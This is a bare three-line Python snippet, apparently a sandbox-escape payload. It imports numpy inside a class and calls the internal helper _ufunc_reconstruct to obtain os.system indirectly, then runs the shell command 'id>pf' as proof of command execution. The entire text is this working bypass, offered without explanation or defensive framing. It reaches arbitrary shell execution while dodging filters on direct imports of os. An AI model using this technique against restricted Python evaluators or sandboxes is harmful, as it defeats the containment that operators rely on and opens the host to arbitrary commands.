class my_H:
    import numpy as np
my_H.np.core._ufunc_reconstruct('os', 'system')('id>pf')
